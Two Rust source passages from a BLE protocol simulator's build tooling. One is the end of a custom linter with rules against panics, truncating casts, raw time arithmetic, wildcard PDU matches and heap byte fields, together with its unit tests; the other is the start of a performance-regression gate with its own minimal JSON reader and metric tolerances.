                msg: format!(
                    "`{}!` in a protocol hot path; recover gracefully and \
                     document with a `ble_invariants` macro",
                    t.text
                ),
            });
        }
        if t.text == "."
            && tokens
                .get(i + 1)
                .is_some_and(|n| n.text == "unwrap" || n.text == "expect")
            && tokens.get(i + 2).is_some_and(|n| n.text == "(")
        {
            let name = &tokens[i + 1];
            out.push(Violation {
                rule: 1,
                line: name.line,
                msg: format!(
                    "`.{}()` in a protocol hot path; use a match/`let else` \
                     with a recovery path",
                    name.text
                ),
            });
        }
    }
}

/// Statement-position keywords after which `[` opens an array literal or
/// pattern rather than an index expression.
const NON_POSTFIX_KEYWORDS: &[&str] = &[
    "let", "mut", "ref", "return", "in", "if", "else", "match", "move", "as", "break", "continue",
    "where", "const", "static", "type", "box", "dyn", "impl", "pub", "use", "yield", "for",
];

fn r1_indexing(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "[" || i == 0 {
            continue;
        }
        let prev = &tokens[i - 1];
        let postfix = (is_ident(prev) && !NON_POSTFIX_KEYWORDS.contains(&prev.text.as_str()))
            || prev.text == ")"
            || prev.text == "]";
        if !postfix {
            continue;
        }
        let close = matching(tokens, i);
        let idx = &tokens[i + 1..close.min(tokens.len())];
        if idx.is_empty() {
            continue;
        }
        let all_literal = idx
            .iter()
            .all(|t| is_number(t) || t.text == ".." || t.text == "..=");
        let modular = idx.iter().any(|t| t.text == "%");
        if !all_literal && !modular {
            let expr: Vec<&str> = idx.iter().map(|t| t.text.as_str()).collect();
            out.push(Violation {
                rule: 1,
                line: t.line,
                msg: format!(
                    "unchecked index `[{}]`; use `.get()`/`.get_mut()`, a \
                     literal index, or a modulo-reduced index",
                    expr.join(" ")
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R2: no truncating `as` casts
// ---------------------------------------------------------------------

const NARROW_INTS: &[&str] = &["u8", "u16", "u32", "i8", "i16", "i32"];

fn r2_casts(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text == "as"
            && tokens
                .get(i + 1)
                .is_some_and(|n| NARROW_INTS.contains(&n.text.as_str()))
        {
            out.push(Violation {
                rule: 2,
                line: t.line,
                msg: format!(
                    "`as {}` can truncate; use `From`/`try_into` or the \
                     `ble_invariants::lsb*` masked helpers",
                    tokens[i + 1].text
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R3: no raw arithmetic on extracted time tick counts
// ---------------------------------------------------------------------

/// Methods that turn a typed `Duration`/`Instant` into a bare integer.
const TIME_EXTRACTORS: &[&str] = &["as_micros", "as_nanos", "as_millis", "as_secs", "as_ticks"];

const ARITH_OPS: &[&str] = &["+", "-", "*", "/"];

fn r3_time_arith(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if !TIME_EXTRACTORS.contains(&t.text.as_str()) {
            continue;
        }
        if !(tokens.get(i + 1).is_some_and(|n| n.text == "(")
            && tokens.get(i + 2).is_some_and(|n| n.text == ")"))
        {
            continue;
        }
        // `d.as_micros() + x`
        let after = tokens.get(i + 3);
        let fires_after = after.is_some_and(|n| ARITH_OPS.contains(&n.text.as_str()));
        // `x + d.as_micros()`: walk back over the receiver's postfix chain.
        let mut j = i as isize - 1; // the `.` before the method
        j -= 1;
        while j >= 0 {
            let tok = &tokens[j as usize];
            match tok.text.as_str() {
                ")" | "]" => match open_backward(tokens, j as usize) {
                    Some(open) => j = open as isize - 1,
                    None => break,
                },
                "." | "::" => j -= 1,
                _ if is_ident(tok) || is_number(tok) => j -= 1,
                _ => break,
            }
        }
        let fires_before = j >= 0 && ARITH_OPS.contains(&tokens[j as usize].text.as_str());
        if fires_after || fires_before {
            out.push(Violation {
                rule: 3,
                line: t.line,
                msg: format!(
                    "raw arithmetic on `.{}()`; keep arithmetic in the typed \
                     `Duration`/`Instant` domain or use `checked_*`/`saturating_*`",
                    t.text
                ),
            });
        }
    }
}

/// Finds the opener matching the closer at `close`, scanning backward.
fn open_backward(tokens: &[Token], close: usize) -> Option<usize> {
    let (o, c) = match tokens[close].text.as_str() {
        ")" => ("(", ")"),
        "]" => ("[", "]"),
        _ => return None,
    };
    let mut depth = 0usize;
    for i in (0..=close).rev() {
        if tokens[i].text == c {
            depth += 1;
        } else if tokens[i].text == o {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        }
    }
    None
}

// ---------------------------------------------------------------------
// R4: exhaustive matches on PDU / LL-control enums
// ---------------------------------------------------------------------

/// Enums carrying protocol opcodes or PDU variants: new over-the-air
/// vocabulary must force every match site to make a decision. The typed
/// telemetry event is held to the same bar so adding an event variant
/// surfaces every consumer (sinks, timeline rendering) that must handle it,
/// and the fault taxonomy likewise so a new impairment kind surfaces every
/// site that renders or tallies faults.
const PDU_ENUMS: &[&str] = &[
    "ControlPdu",
    "AdvertisingPdu",
    "Llid",
    "TelemetryEvent",
    "FaultKind",
];

fn r4_wildcards(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "match" {
            continue;
        }
        // Find the match-body `{`: the first one at group depth 0 (braces
        // inside the scrutinee only occur within parens/brackets, e.g.
        // closures, because Rust bans bare struct literals there).
        let mut depth = 0usize;
        let mut body = None;
        for (j, tj) in tokens.iter().enumerate().skip(i + 1) {
            match tj.text.as_str() {
                "(" | "[" => depth += 1,
                ")" | "]" => depth = depth.saturating_sub(1),
                "{" if depth == 0 => {
                    body = Some(j);
                    break;
                }
                "{" => {
                    // A brace at group depth > 0 belongs to a closure in the
                    // scrutinee; it is closed before its group closes.
                }
                ";" if depth == 0 => break, // not a match expression after all
                _ => {}
            }
            if j > i + 256 {
                break; // degenerate; give up on this `match`
            }
        }
        let Some(body) = body else { continue };
        let end = matching(tokens, body);
        check_match_arms(&tokens[body + 1..end.min(tokens.len())], out);
    }
}

/// Analyzes the top-level arms of one match body (tokens between the match
/// braces). Nested matches are analyzed by their own `match` token in the
/// outer scan.
fn check_match_arms(body: &[Token], out: &mut Vec<Violation>) {
    let mut saw_pdu_enum = false;
    let mut wildcard: Option<u32> = None;
    let mut k = 0usize;
    let mut pattern: Vec<&Token> = Vec::new();
    while k < body.len() {
        let t = &body[k];
        match t.text.as_str() {
            "(" | "[" | "{" => {
                // Groups within a pattern stay opaque.
                let close = matching_rel(body, k);
                for tok in &body[k..close.min(body.len())] {
                    pattern.push(tok);
                }
                k = close + 1;
            }
            "=>" => {
                analyze_pattern(&pattern, &mut saw_pdu_enum, &mut wildcard);
                pattern.clear();
                // Skip the arm body: a braced block, or tokens to the next
                // top-level comma.
                k += 1;
                if body.get(k).is_some_and(|n| n.text == "{") {
                    k = matching_rel(body, k) + 1;
                    if body.get(k).is_some_and(|n| n.text == ",") {
                        k += 1;
                    }
                } else {
                    let mut depth = 0usize;
                    while k < body.len() {
                        match body[k].text.as_str() {
                            "(" | "[" | "{" => depth += 1,
                            ")" | "]" | "}" => depth = depth.saturating_sub(1),
                            "," if depth == 0 => {
                                k += 1;
                                break;
                            }
                            _ => {}
                        }
                        k += 1;
                    }
                }
            }
            _ => {
                pattern.push(t);
                k += 1;
            }
        }
    }
    if saw_pdu_enum {
        if let Some(line) = wildcard {
            out.push(Violation {
                rule: 4,
                line,
                msg: "`_` wildcard arm in a match over a PDU/LL-control enum; \
                      list the remaining variants explicitly so new opcodes \
                      force a decision here"
                    .to_owned(),
            });
        }
    }
}

fn matching_rel(body: &[Token], open: usize) -> usize {
    matching(body, open)
}

fn analyze_pattern(pattern: &[&Token], saw_pdu_enum: &mut bool, wildcard: &mut Option<u32>) {
    for w in pattern.windows(2) {
        if PDU_ENUMS.contains(&w[0].text.as_str()) && w[1].text == "::" {
            *saw_pdu_enum = true;
        }
    }
    if let Some(first) = pattern.first() {
        if first.text == "_" && pattern.len() == 1 && wildcard.is_none() {
            *wildcard = Some(first.line);
        }
    }
}

// ---------------------------------------------------------------------
// R5: no shared-pointer node graphs in arena consumers
// ---------------------------------------------------------------------

/// The pre-arena world wired nodes as `Rc<RefCell<dyn RadioListener>>` and
/// every call site paid for it in `.borrow_mut()` noise and runtime borrow
/// panics. `World` now owns nodes outright (`add_node` → `NodeId`,
/// `node::<T>()` / `node_mut::<T>()` for access), so the shared-pointer
/// pattern is banned from the crates that build worlds.
fn r5_rc_refcell(tokens: &[Token], out: &mut Vec<Violation>) {
    // `std::cell::RefCell` and `RefCell` must both match: skip any
    // `ident ::` path-qualifier pairs before comparing.
    fn is_refcell_at(tokens: &[Token], mut i: usize) -> bool {
        loop {
            match tokens.get(i) {
                Some(t) if t.text == "RefCell" => return true,
                Some(t) if is_ident(t) && tokens.get(i + 1).is_some_and(|n| n.text == "::") => {
                    i += 2;
                }
                _ => return false,
            }
        }
    }
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "Rc" {
            continue;
        }
        // The type: `Rc<RefCell<…>>` (possibly path-qualified).
        let as_type =
            tokens.get(i + 1).is_some_and(|n| n.text == "<") && is_refcell_at(tokens, i + 2);
        // The constructor: `Rc::new(RefCell::new(…))`.
        let as_ctor = tokens.get(i + 1).is_some_and(|n| n.text == "::")
            && tokens.get(i + 2).is_some_and(|n| n.text == "new")
            && tokens.get(i + 3).is_some_and(|n| n.text == "(")
            && is_refcell_at(tokens, i + 4);
        if as_type || as_ctor {
            out.push(Violation {
                rule: 5,
                line: t.line,
                msg: "`Rc<RefCell<…>>` node graph; own the node in the arena \
                      (`World::add_node` → `NodeId`, access via `node::<T>()` \
                      / `node_mut::<T>()` / `with_node_ctx`)"
                    .to_owned(),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R6: no heap-allocated byte buffers in frame-facing struct fields
// ---------------------------------------------------------------------

/// The inline-`Pdu` rework removed every `Vec<u8>` from the structs that
/// cross the radio medium (`RawFrame`, `ReceivedFrame`); a `Vec<u8>` field
/// reintroduced on a `pub` frame-facing struct silently puts a heap
/// allocation (and a clone per receiver) back on every delivery.
///
/// Detects `pub [vis-qualifier] name: Vec<u8>` field declarations. Function
/// parameters and locals never carry `pub`, so the pattern only matches
/// struct fields. Private fields are deliberately out of scope: they cannot
/// leak into the public frame API.
fn r6_vec_u8_fields(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "pub" {
            continue;
        }
        // Skip a `(crate)` / `(super)` / `(in …)` visibility qualifier.
        let mut j = i + 1;
        if tokens.get(j).is_some_and(|n| n.text == "(") {
            j = matching(tokens, j) + 1;
        }
        // Field name and the `:` separator.
        if !tokens.get(j).is_some_and(is_ident) || tokens.get(j).is_some_and(|n| n.text == "fn") {
            continue;
        }
        let name = j;
        if tokens.get(j + 1).is_none_or(|n| n.text != ":") {
            continue;
        }
        // The type: `Vec<u8>`, possibly path-qualified.
        let mut k = j + 2;
        while tokens.get(k).is_some_and(is_ident)
            && tokens.get(k + 1).is_some_and(|n| n.text == "::")
        {
            k += 2;
        }
        let is_vec_u8 = tokens.get(k).is_some_and(|n| n.text == "Vec")
            && tokens.get(k + 1).is_some_and(|n| n.text == "<")
            && tokens.get(k + 2).is_some_and(|n| n.text == "u8")
            && tokens.get(k + 3).is_some_and(|n| n.text == ">");
        if is_vec_u8 {
            out.push(Violation {
                rule: 6,
                line: t.line,
                msg: format!(
                    "`pub {}: Vec<u8>` field on a frame-facing struct; store \
                     the bytes inline (`ble_phy::Pdu`) so frame delivery \
                     stays allocation-free",
                    tokens[name].text
                ),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lint(src: &str) -> Vec<Violation> {
        lint_source(src, RuleSet::protocol())
    }

    fn rules_fired(src: &str) -> Vec<u8> {
        lint(src).into_iter().map(|v| v.rule).collect()
    }

    // ----- R1: panics ------------------------------------------------

    #[test]
    fn r1_fires_on_each_panic_form() {
        assert_eq!(rules_fired("fn f() { panic!(\"boom\"); }"), vec![1]);
        assert_eq!(rules_fired("fn f() { unreachable!(); }"), vec![1]);
        assert_eq!(rules_fired("fn f(x: Option<u8>) { x.unwrap(); }"), vec![1]);
        assert_eq!(
            rules_fired("fn f(x: Option<u8>) { x.expect(\"set\"); }"),
            vec![1]
        );
        assert_eq!(rules_fired("fn f() { todo!() }"), vec![1]);
    }

    #[test]
    fn r1_ignores_recovering_combinators() {
        assert!(lint("fn f(x: Option<u8>) -> u8 { x.unwrap_or(0) }").is_empty());
        assert!(lint("fn f(x: Option<u8>) -> u8 { x.unwrap_or_default() }").is_empty());
    }

    #[test]
    fn r1_ignores_test_code_and_strings() {
        assert!(lint("#[cfg(test)] mod t { #[test] fn u() { panic!(); } }").is_empty());
        assert!(lint("fn f() -> &'static str { \"panic!(x.unwrap())\" }").is_empty());
        assert!(lint("// a comment about panic!()\nfn f() {}").is_empty());
    }

    #[test]
    fn r1_fires_on_unchecked_indexing() {
        assert_eq!(
            rules_fired("fn f(a: &[u8], i: usize) -> u8 { a[i] }"),
            vec![1]
        );
        assert_eq!(
            rules_fired("fn f(a: &[u8], n: usize) -> &[u8] { &a[n..] }"),
            vec![1]
        );
    }

    #[test]
    fn r1_allows_checked_indexing_forms() {
        assert!(lint("fn f(a: [u8; 4]) -> u8 { a[0] }").is_empty());
        assert!(lint("fn f(a: &[u8]) -> &[u8] { &a[..2] }").is_empty());
        assert!(lint("fn f(a: [u8; 3], i: usize) -> u8 { a[i % 3] }").is_empty());
        assert!(lint("fn f(a: &[u8], i: usize) -> Option<&u8> { a.get(i) }").is_empty());
        // Array types and literals are not index expressions.
        assert!(lint("fn f(n: usize) -> [u8; 5] { let x = [0u8; 5]; x }").is_empty());
    }

    // ----- R2: casts -------------------------------------------------

    #[test]
    fn r2_fires_on_narrowing_casts() {
        assert_eq!(rules_fired("fn f(x: u64) -> u8 { x as u8 }"), vec![2]);
        assert_eq!(rules_fired("fn f(x: u64) -> u16 { x as u16 }"), vec![2]);
        assert_eq!(rules_fired("fn f(x: u64) -> i32 { x as i32 }"), vec![2]);
    }

    #[test]
    fn r2_allows_wide_casts_and_renames() {
        assert!(lint("fn f(x: u8) -> u64 { x as u64 }").is_empty());
        assert!(lint("fn f(x: u8) -> usize { x as usize }").is_empty());
        assert!(lint("use std::fmt as formatting;").is_empty());
    }

    // ----- R3: time arithmetic ---------------------------------------

    #[test]
    fn r3_fires_on_raw_tick_arithmetic() {
        assert_eq!(
            rules_fired("fn f(d: Duration) -> u64 { d.as_micros() + 5 }"),
            vec![3]
        );
        assert_eq!(
            rules_fired("fn f(d: Duration, x: u64) -> u64 { x - d.as_micros() }"),
            vec![3]
        );
        assert_eq!(
            rules_fired("fn f(c: Conn) -> u64 { c.params.interval().as_nanos() * 2 }"),
            vec![3]
        );
    }

    #[test]
    fn r3_allows_typed_domain_arithmetic() {
        // The addition happens on Durations; only the sum is extracted.
        assert!(lint("fn f(a: Duration, b: Duration) -> u64 { (a + b).as_micros() }").is_empty());
        assert!(lint("fn f(d: Duration) -> u64 { d.as_micros() }").is_empty());
        assert!(
            lint("fn f(d: Duration, x: u64) -> u64 { d.as_micros().saturating_add(x) }").is_empty()
        );
    }

    // ----- R4: exhaustive PDU matches --------------------------------

    #[test]
    fn r4_fires_on_wildcard_over_pdu_enum() {
        let src = "fn f(p: ControlPdu) {\n    match p {\n        ControlPdu::PingReq => {}\n        _ => {}\n    }\n}";
        let v = lint(src);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, 4);
        assert_eq!(v[0].line, 4);
    }

    #[test]
    fn r4_allows_exhaustive_pdu_match_and_foreign_wildcards() {
        let exhaustive = "fn f(p: Llid) { match p { Llid::Control => {} Llid::Start => {} } }";
        assert!(lint(exhaustive).is_empty());
        // Wildcards over non-protocol enums are fine.
        let other = "fn f(s: State) { match s { State::Idle => {} _ => {} } }";
        assert!(lint(other).is_empty());
    }

    #[test]
    fn r4_ignores_nested_non_pdu_wildcard() {
        // The inner match on a tuple may use `_`; the outer PDU match is
        // exhaustive and must not inherit the inner wildcard.
        let src = "fn f(p: Llid, r: Role) {\n    match p {\n        Llid::Control => match r { Role::Master => {} _ => {} },\n        Llid::Start => {}\n    }\n}";
        assert!(lint(src).is_empty());
    }

    #[test]
    fn r4_flags_nested_pdu_wildcard_only() {
        let src = "fn f(p: Llid, q: ControlPdu) {\n    match p {\n        Llid::Control => match q { ControlPdu::PingReq => {} _ => {} },\n        Llid::Start => {}\n    }\n}";
        let v = lint(src);
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, 4);
        assert_eq!(v[0].line, 3);
    }

    // ----- R5: Rc<RefCell<…>> ----------------------------------------

    #[test]
    fn r5_fires_on_rc_refcell_types_and_constructors() {
        let ty = "fn f(x: Rc<RefCell<Device>>) {}";
        let v = lint_source(ty, RuleSet::general().with_r5());
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, 5);
        let ctor = "fn f() { let d = Rc::new(RefCell::new(Device::default())); }";
        assert_eq!(lint_source(ctor, RuleSet::general().with_r5()).len(), 1);
        let qualified = "fn f(x: std::rc::Rc<std::cell::RefCell<Device>>) {}";
        assert_eq!(
            lint_source(qualified, RuleSet::general().with_r5()).len(),
            1
        );
    }

    #[test]
    fn r5_ignores_rc_and_refcell_alone_and_is_opt_in() {
        let separate = "fn f(a: Rc<str>, b: RefCell<u8>) {}";
        assert!(lint_source(separate, RuleSet::general().with_r5()).is_empty());
        let graph = "fn f(x: Rc<RefCell<Device>>) {}";
        assert!(lint_source(graph, RuleSet::general()).is_empty());
        assert!(lint_source(graph, RuleSet::protocol()).is_empty());
    }

    // ----- R6: pub Vec<u8> fields ------------------------------------

    #[test]
    fn r6_fires_on_pub_vec_u8_fields() {
        let src = "pub struct RawFrame { pub pdu: Vec<u8>, pub crc_init: u32 }";
        let v = lint_source(src, RuleSet::general().with_r6());
        assert_eq!(v.len(), 1);
        assert_eq!(v[0].rule, 6);
        assert!(v[0].msg.contains("pdu"));
        let qualified = "pub struct F { pub(crate) data: std::vec::Vec<u8> }";
        assert_eq!(
            lint_source(qualified, RuleSet::general().with_r6()).len(),
            1
        );
    }

    #[test]
    fn r6_ignores_private_fields_fns_and_other_vecs() {
        let private = "pub struct F { pdu: Vec<u8> }";
        assert!(lint_source(private, RuleSet::general().with_r6()).is_empty());
        let func = "pub fn encode(data: &[u8]) -> Vec<u8> { data.to_vec() }";
        assert!(lint_source(func, RuleSet::general().with_r6()).is_empty());
        let other = "pub struct F { pub samples: Vec<u16>, pub names: Vec<String> }";
        assert!(lint_source(other, RuleSet::general().with_r6()).is_empty());
        let opt_in = "pub struct F { pub pdu: Vec<u8> }";
        assert!(lint_source(opt_in, RuleSet::general()).is_empty());
    }

    #[test]
    fn r6_waivable_like_other_rules() {
        let src = "pub struct Capture {\n    // xtask-allow: R6 — capture logs outlive the hot path\n    pub raw: Vec<u8>,\n}";
        assert!(lint_source(src, RuleSet::general().with_r6()).is_empty());
    }

    #[test]
    fn r5_waivable_like_other_rules() {
        let src = "// xtask-allow: R5 — FFI boundary needs shared ownership\nfn f(x: Rc<RefCell<Device>>) {}";
        assert!(lint_source(src, RuleSet::general().with_r5()).is_empty());
    }

    // ----- waivers and rule sets -------------------------------------

    #[test]
    fn waiver_silences_same_and_next_line() {
        let same = "fn f(x: u64) -> u8 { x as u8 } // xtask-allow: R2 — masked upstream";
        assert!(lint(same).is_empty());
        let above = "// xtask-allow: R2 — masked upstream\nfn f(x: u64) -> u8 { x as u8 }";
        assert!(lint(above).is_empty());
    }

    #[test]
    fn waiver_is_rule_specific() {
        let src = "// xtask-allow: R1\nfn f(x: u64) -> u8 { x as u8 }";
        assert_eq!(rules_fired(src), vec![2]);
    }

    #[test]
    fn rule_mentioned_in_waiver_reason_is_not_waived() {
        let src =
            "// xtask-allow: R1 — unlike R2, this site can never panic\nfn f(x: u64) -> u8 { x as u8 }";
        assert_eq!(rules_fired(src), vec![2]);
        let ascii =
            "// xtask-allow: R1 -- unlike R2, this site can never panic\nfn f(x: u64) -> u8 { x as u8 }";
        assert_eq!(rules_fired(ascii), vec![2]);
    }

    #[test]
    fn general_ruleset_only_checks_r4() {
        let src = "fn f(x: Option<u8>) { x.unwrap(); }";
        assert!(lint_source(src, RuleSet::general()).is_empty());
        let pdu = "fn f(p: Llid) { match p { Llid::Control => {} _ => {} } }";
        assert_eq!(lint_source(pdu, RuleSet::general()).len(), 1);
    }

    #[test]
    fn violations_sorted_by_line() {
        let src = "fn a(x: u64) -> u8 { x as u8 }\nfn b() { panic!(); }";
        let v = lint(src);
        assert_eq!(
            v.iter().map(|x| (x.line, x.rule)).collect::<Vec<_>>(),
            vec![(1, 2), (2, 1)]
        );
    }
}
