//! `cargo xtask perfgate` — the performance/behaviour regression gate.
//!
//! `cargo xtask determinism` proves each binary agrees with *itself* across
//! runs; this task proves the current tree agrees with the *committed
//! baselines* under `benchmarks/baselines/`. It builds the workspace in
//! release mode, runs every JSON-emitting experiment binary at its fixed
//! default seed, flattens the `BENCH_<name>.json` artefact into scalar
//! metrics, and compares each metric against the baseline artefact:
//!
//! - **Sim-deterministic metrics** (success counts, attempt quartiles,
//!   histogram percentiles, span `sim_ns`/`self_sim_ns`, the
//!   `panicked_trials` counter, …) must match **exactly** — they are pure
//!   functions of the seed, so any drift is a behaviour change that needs
//!   a deliberate `--update-baselines`. `panicked_trials` is emitted only
//!   when non-zero, so a trial starting to panic surfaces as a
//!   missing-metric failure against a clean baseline.
//! - **Wall-clock metrics** (`trials_per_sec`, `events_per_sec`,
//!   `peak_rss_kb`, span `wall_ns`/`self_wall_ns`) get a generous relative
//!   tolerance plus an absolute noise floor, and are skipped entirely when
//!   absent on either side (e.g. `peak_rss_kb` off Linux). They catch
//!   order-of-magnitude slowdowns without flaking on machine variance.
//!
//! On failure the gate names the first regressed metric with both values
//! and the rule it broke. `--update-baselines` re-captures the current
//! artefacts as the new baselines (review the diff before committing).

use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};

/// Every JSON-emitting experiment binary (the `json: true` rows of the
/// determinism matrix). Non-JSON binaries have no artefact to gate.
const PERF_BINARIES: &[&str] = &[
    "exp1_hop_interval",
    "exp2_payload_size",
    "exp3_distance",
    "exp4_wall",
    "ablation_phy2m",
    "ablation_sync_noise",
    "ablation_widening",
    "ablation_faults",
    "exp5_multi_conn",
    "exp6_dense_band",
];

/// The per-push fast subset: one parallel sweep, one ablation, and the one
/// serial binary — cheap enough for every push, broad enough to catch a
/// behaviour drift before the weekly full run does.
const FAST_SUBSET: &[&str] = &["exp1_hop_interval", "ablation_phy2m", "ablation_widening"];

/// How a metric is allowed to move relative to its baseline.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Direction {
    /// Sim-deterministic: any difference is a regression.
    Exact,
    /// Wall-clock throughput: only a *drop* beyond tolerance regresses.
    HigherBetter,
    /// Wall-clock cost: only a *rise* beyond tolerance regresses.
    LowerBetter,
}

/// The comparison rule for one metric class.
#[derive(Clone, Copy, Debug)]
struct MetricSpec {
    direction: Direction,
    /// Allowed relative movement in the bad direction (0.5 = 50%).
    rel_tol: f64,
    /// Absolute difference below which movement is never a regression
    /// (same unit as the metric). Keeps tiny baselines from tripping the
    /// relative rule on noise.
    noise_floor: f64,
}

const EXACT: MetricSpec = MetricSpec {
    direction: Direction::Exact,
    rel_tol: 0.0,
    noise_floor: 0.0,
};

/// Classifies a flattened metric key by its leaf field name. Every wall
/// field named here mirrors the neutralisation list in
/// `determinism::normalize_json`; anything else in the artefact is
/// sim-deterministic by construction.
fn spec_for(key: &str) -> MetricSpec {
    let leaf = key.rsplit('.').next().unwrap_or(key);
    match leaf {
        "trials_per_sec" | "events_per_sec" => MetricSpec {
            direction: Direction::HigherBetter,
            rel_tol: 0.90,
            noise_floor: 50.0,
        },
        "peak_rss_kb" => MetricSpec {
            direction: Direction::LowerBetter,
            rel_tol: 0.50,
            noise_floor: 4096.0,
        },
        "wall_ns" | "self_wall_ns" => MetricSpec {
            direction: Direction::LowerBetter,
            rel_tol: 9.0,
            noise_floor: 10_000_000.0,
        },
        _ => EXACT,
    }
}

/// Whether a metric may be silently absent on one side (wall metrics vary
/// by platform; sim metrics may not appear or vanish without a baseline
/// refresh).
fn optional(key: &str) -> bool {
    spec_for(key).direction != Direction::Exact
}

// ---------------------------------------------------------------------------
// Minimal JSON reader. The artefacts are produced by our own hand-rolled
// writer (`bench::report::rows_to_json`), so this reader only needs the subset
// that writer emits: objects, arrays, strings without escapes, numbers,
// and `null`. Kept here rather than pulling in a JSON dependency.
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq)]
enum Json {
    Null,
    Num(f64),
    Str(String),
    Arr(Vec<Json>),
    Obj(Vec<(String, Json)>),
}

struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn new(s: &'a str) -> Self {
        Reader {
            bytes: s.as_bytes(),
            pos: 0,
        }
    }

    fn skip_ws(&mut self) {
        while self.pos < self.bytes.len() && self.bytes[self.pos].is_ascii_whitespace() {
            self.pos += 1;
        }
    }

    fn peek(&mut self) -> Option<u8> {
        self.skip_ws();
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), String> {
        match self.peek() {
            Some(c) if c == b => {
                self.pos += 1;
                Ok(())
            }
            other => Err(format!(
                "byte {}: expected `{}`, found {:?}",
                self.pos,
                b as char,
                other.map(|c| c as char)
            )),
        }
    }

    fn value(&mut self) -> Result<Json, String> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b'n') => {
                if self.bytes[self.pos..].starts_with(b"null") {
                    self.pos += 4;
                    Ok(Json::Null)
                } else {
                    Err(format!("byte {}: bad literal", self.pos))
                }
            }
            Some(c) if c == b'-' || c.is_ascii_digit() => self.number(),
            other => Err(format!(
                "byte {}: unexpected {:?}",
                self.pos,
                other.map(|c| c as char)
            )),
        }
    }

    fn object(&mut self) -> Result<Json, String> {
        self.expect(b'{')?;
        let mut fields = Vec::new();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Obj(fields));
        }
        loop {
            let key = self.string()?;
            self.expect(b':')?;
            fields.push((key, self.value()?));
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Obj(fields));
                }
                other => {
                    return Err(format!(
                        "byte {}: expected `,` or `}}`, found {:?}",
                        self.pos,
                        other.map(|c| c as char)
                    ))
                }
            }
        }
    }

    fn array(&mut self) -> Result<Json, String> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Arr(items));
        }
        loop {
            items.push(self.value()?);
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Arr(items));
                }
                other => {
                    return Err(format!(
                        "byte {}: expected `,` or `]`, found {:?}",
                        self.pos,
                        other.map(|c| c as char)
                    ))
                }
            }
        }
    }

    fn string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let start = self.pos;
        while self.pos < self.bytes.len() && self.bytes[self.pos] != b'"' {
            self.pos += 1;
        }
        if self.pos >= self.bytes.len() {
            return Err("unterminated string".into());
        }
        let s = String::from_utf8_lossy(&self.bytes[start..self.pos]).into_owned();
        self.pos += 1;
        Ok(s)
    }

    fn number(&mut self) -> Result<Json, String> {
        self.skip_ws();
        let start = self.pos;
        while self.pos < self.bytes.len()
            && matches!(
                self.bytes[self.pos],
                b'0'..=b'9' | b'-' | b'+' | b'.' | b'e' | b'E'
            )
        {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).map_err(|e| e.to_string())?;
        text.parse::<f64>()
            .map(Json::Num)
            .map_err(|_| format!("byte {start}: bad number `{text}`"))
    }
}

fn parse_json(s: &str) -> Result<Json, String> {
    let mut r = Reader::new(s);
    let v = r.value()?;
    r.skip_ws();
    if r.pos != r.bytes.len() {
        return Err(format!("trailing content at byte {}", r.pos));
    }
    Ok(v)
}

// ---------------------------------------------------------------------------
// Flattening and comparison.
// ---------------------------------------------------------------------------

/// Flattened view of one artefact: numeric metrics by dotted path, plus the
/// string fields (`parameter`, `phase`, …) as `path=value` shape tokens so a
/// renamed sweep or phase fails loudly rather than comparing garbage.
#[derive(Debug, Default)]
struct Flat {
    nums: Vec<(String, f64)>,
    shape: Vec<String>,
}

fn flatten(v: &Json, prefix: &str, out: &mut Flat) {
    match v {
        // `null` (e.g. `peak_rss_kb` off Linux, absent histograms) flattens
        // to nothing: the key is simply missing on that side.
        Json::Null => {}
        Json::Num(n) => out.nums.push((prefix.to_string(), *n)),
        Json::Str(s) => out.shape.push(format!("{prefix}={s}")),
        Json::Arr(items) => {
            for (i, item) in items.iter().enumerate() {
                // Phase-profile rows are keyed by phase name, not position,
                // so a newly-instrumented phase shifts nothing else.
                let label = phase_name(item)
                    .map(|p| format!("{prefix}[{p}]"))
                    .unwrap_or_else(|| format!("{prefix}[{i}]"));
                flatten(item, &label, out);
            }
        }
        Json::Obj(fields) => {
            for (k, item) in fields {
                let label = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                flatten(item, &label, out);
            }
        }
    }
}

fn phase_name(v: &Json) -> Option<&str> {
    if let Json::Obj(fields) = v {
        for (k, val) in fields {
            if k == "phase" {
                if let Json::Str(s) = val {
                    return Some(s);
                }
            }
        }
    }
    None
}

/// Outcome of gating one artefact against its baseline.
#[derive(Debug)]
struct GateStats {
    /// Metrics compared (exact or within tolerance).
    compared: usize,
    /// Wall metrics skipped because one side lacked them.
    skipped: usize,
}

/// Pure comparison core: baseline artefact text vs current artefact text.
